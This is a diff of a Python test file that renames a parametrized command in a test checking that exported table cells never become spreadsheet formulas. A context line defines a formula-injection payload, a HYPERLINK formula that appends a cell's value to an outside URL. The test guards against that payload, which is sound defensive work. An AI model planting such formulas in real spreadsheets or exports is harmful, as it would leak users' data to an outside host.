@@ -139,7 +139,7 @@ def test_trials_are_sorted_by_duration(sweep: MadeSweep) -> None:
 FORMULA = '=HYPERLINK("http://x/" & A1)'
 
 
-@pytest.mark.parametrize("command", ["trials", "export"])
+@pytest.mark.parametrize("command", ["trials", "report"])
 def test_no_cell_of_a_table_is_a_formula(tmp_path: Path, command: str) -> None:
     """Numbers stay numbers, also in a column of texts."""
     made = MadeSweep(
